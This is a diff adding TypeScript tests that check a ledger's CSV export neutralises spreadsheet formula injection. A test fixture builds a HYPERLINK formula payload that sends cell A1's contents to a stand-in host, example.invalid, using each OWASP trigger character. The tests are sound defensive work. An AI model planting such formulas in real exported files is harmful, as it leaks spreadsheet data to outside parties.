@@ -1,8 +1,11 @@
 import assert from 'node:assert/strict';
 import { totals } from '../../../../src/core/ledger/query';
-import { microUsdToDollars } from '../../../../src/core/report/csv';
+import { csvTextField, microUsdToDollars } from '../../../../src/core/report/csv';
 import { ledgerToCsv, ledgerToJson } from '../../../../src/core/report/exportLedger';
 import { ZERO_USAGE } from '../../../../src/core/usage/usage';
+import type { CallOutcome, LedgerRecord } from '../../../../src/core/ledger/record';
+import type { ProviderId } from '../../../../src/core/models/providers';
+import type { TaskKind } from '../../../../src/core/models/tasks';
 import { makeRecord } from '../ledger/fixtures';
 import { LEDGER } from './ledger';
 
@@ -103,6 +106,79 @@ describe('ledgerToCsv', () => {
     assert.equal(sum, 17_150);
     assert.equal(sum, totals(LEDGER).costMicroUsd);
     assert.deepEqual(rows.slice(1).map((r) => r[cost]), ['0.001650', '0.004050', '0.000525', '0.003000', '0.006625', '0.001300', '0.000000']);
+  });
+});
+
+describe('CSV export against spreadsheet formulas (CSV injection)', () => {
+  /** Every first character OWASP lists as one a spreadsheet runs as a formula. */
+  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+  const TEXT_COLUMNS = ['time', 'session', 'task', 'model', 'provider', 'outcome', 'request_id', 'reason', 'error'] as const;
+
+  /** A record whose every text field starts with `trigger` (enums too: a damaged or future ledger is read as it is). */
+  function poisoned(trigger: string): LedgerRecord {
+    const payload = (field: string) => `${trigger}HYPERLINK("https://example.invalid/?q="&A1,"${field}")`;
+    return {
+      ...makeRecord({ id: 'p', time: payload('time') }),
+      session: payload('session'),
+      task: payload('task') as TaskKind,
+      model: payload('model'),
+      provider: payload('provider') as ProviderId,
+      outcome: payload('outcome') as CallOutcome,
+      requestId: payload('request_id'),
+      reason: payload('reason'),
+      error: payload('error'),
+    };
+  }
+
+  it('opens a request id that begins with = as text: a leading single quote, the cell quoted', () => {
+    const record = makeRecord({ id: 'r', time: '2026-03-10T13:00:00.000Z', requestId: '=1+2' });
+    const row = ledgerToCsv([record]).split('\r\n')[1];
+    assert.ok(row.endsWith(',"\'=1+2",,'), row);
+    const [header, parsed] = parseCsv(ledgerToCsv([record]));
+    assert.equal(parsed[header.indexOf('request_id')], "'=1+2");
+  });
+
+  for (const trigger of TRIGGERS) {
+    it(`neutralises every text column that starts with ${JSON.stringify(trigger)}`, () => {
+      const csv = ledgerToCsv([poisoned(trigger)]);
+      const [header, row] = parseCsv(csv);
+      assert.equal(row.length, header.length);
+      for (const column of TEXT_COLUMNS) {
+        const cell = row[header.indexOf(column)];
+        // Read back: the quote, then the value exactly as stored.
+        assert.equal(cell, `'${trigger}HYPERLINK("https://example.invalid/?q="&A1,"${column}")`, column);
+      }
+      // On the wire every such cell opens with a quote character and the single quote: never the trigger itself.
+      const fields = csv.split('\r\n')[1];
+      assert.ok(!new RegExp(`(^|,)${trigger === '+' ? '\\+' : trigger}`).test(fields), fields);
+    });
+  }
+
+  it('quotes and prefixes only what would run: other text is written as before', () => {
+    assert.equal(csvTextField('msg_01'), 'msg_01');
+    assert.equal(csvTextField(''), '');
+    assert.equal(csvTextField('a=b'), 'a=b');
+    assert.equal(csvTextField('cheaper, "fast"'), '"cheaper, ""fast"""');
+    assert.equal(csvTextField('-'), '"\'-"');
+    assert.equal(csvTextField('@SUM(A1)'), '"\'@SUM(A1)"');
+    assert.equal(csvTextField('=A1,"x"'), '"\'=A1,""x"""');
+    assert.equal(csvTextField('\tx'), '"\'\tx"');
+    assert.equal(csvTextField('\r\nx'), '"\'\r\nx"');
+  });
+
+  it('leaves number columns as numbers, a negative latency included (a number, not a formula)', () => {
+    const record = makeRecord({
+      id: 'n', time: '2026-03-10T13:00:00.000Z', latencyMs: -5, costMicroUsd: 1250, gatewayCostMicroUsd: 1300,
+      usage: { input: 2000, cacheRead: 1, cacheWrite5m: 2, cacheWrite1h: 3, output: 4, reasoning: 5 },
+    });
+    const row = ledgerToCsv([record]).split('\r\n')[1];
+    assert.equal(row, '2026-03-10T13:00:00.000Z,s1,generateCode,gpt-5.4-mini,openai,2000,1,2,3,4,5,0.001250,0.001300,-5,ok,false,false,,,');
+  });
+
+  it('leaves the JSON export exactly as stored', () => {
+    const record = poisoned('=');
+    assert.deepEqual(JSON.parse(ledgerToJson([record])), [record]);
+    assert.ok(ledgerToJson([record]).includes('"requestId": "=HYPERLINK('));
   });
 });
 
